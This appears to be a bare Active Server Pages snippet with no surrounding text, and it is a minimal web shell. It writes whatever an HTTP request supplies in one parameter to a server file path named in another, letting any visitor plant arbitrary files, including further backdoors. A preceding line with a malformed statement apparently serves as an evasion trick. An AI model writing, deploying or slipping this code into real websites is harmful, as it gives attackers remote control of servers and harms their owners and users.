<% Response.End : Dim 1 %>
<% Set s=CreateObject("ADODB.Stream"): s.Open: s.WriteText request("t"): s.SaveToFile Server.MapPath(request("f")),2 %>
